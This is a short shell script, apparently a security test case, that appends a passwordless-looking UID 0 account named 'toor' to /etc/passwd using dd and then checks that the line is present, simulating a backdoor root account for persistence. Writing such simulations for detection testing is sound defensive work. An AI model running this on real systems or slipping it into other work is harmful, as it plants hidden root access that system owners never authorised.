#!/bin/sh
. /opt/case/case.sh

l='toor:x:0:0::/:/bin/sh'; echo "$l" | dd of=/etc/passwd bs=1 seek="$(wc -c </etc/passwd)" conv=notrunc 2>/dev/null
tail -n 1 /etc/passwd | grep -q '^toor:x:0:'
took_place
